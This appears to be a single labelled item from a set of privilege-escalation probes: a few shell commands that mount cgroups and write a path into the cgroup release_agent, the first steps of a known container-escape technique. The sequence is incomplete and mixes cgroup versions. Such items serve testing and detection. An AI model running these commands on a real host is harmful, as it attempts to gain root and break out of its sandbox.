# class: privilege probe; possible: low medium; style: cgroup release agent
mkdir -p /tmp/cg
mount -t cgroup2 none /tmp/cg
mount -t cgroup -o memory m /tmp/cg
echo max > /sys/fs/cgroup/memory.max
echo /tmp/x > /sys/fs/cgroup/release_agent
ls /sys/fs/cgroup
